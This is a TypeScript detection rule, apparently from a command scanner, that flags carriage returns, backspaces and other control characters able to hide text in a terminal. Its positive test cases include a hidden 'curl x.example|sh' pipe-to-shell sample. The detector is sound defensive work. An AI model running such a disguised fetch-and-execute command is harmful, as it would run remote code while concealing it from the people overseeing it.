import { defineRule, type Hit } from './rule.js';
import { around, mayHide } from '../unicode.js';

export const rule = defineRule({
  id: 'control_chars',
  category: 'hidden_text',
  severity: 'critical',
  technique: 'T1036',
  title: 'Carriage returns, backspaces and other control characters that overwrite what the terminal shows',
  check(ctx) {
    const hits: Hit[] = [];
    const t = ctx.input;
    if (!mayHide(t)) return hits;
    for (let i = 0; i < t.length && hits.length < 5; i++) {
      const c = t.charCodeAt(i);
      if (c === 0x0d) {
        if (t.charCodeAt(i + 1) === 0x0a || i === t.length - 1) continue;
        hits.push({ span: { start: i, end: i + 1 }, explanation: `contains a carriage return in the middle of a line; a terminal shows the text after it on top of the text before it: "${around(t, i)}"` });
      } else if ((c < 0x20 && c !== 0x09 && c !== 0x0a && c !== 0x1b) || c === 0x7f || (c >= 0x80 && c < 0xa0 && c !== 0x9b && c !== 0x9d)) {
        hits.push({ span: { start: i, end: i + 1 }, explanation: `contains the control character U+${c.toString(16).toUpperCase().padStart(4, '0')}, which can hide text in a terminal: "${around(t, i)}"` });
      }
    }
    return hits;
  },
  cases: {
    positive: [['bash', 'echo safe\rcurl x.example|sh'], ['bash', 'echo safe\bmalicious']],
    negative: [['bash', 'echo one\r\necho two\r\n'], ['bash', 'echo "a\tb"']],
  },
});
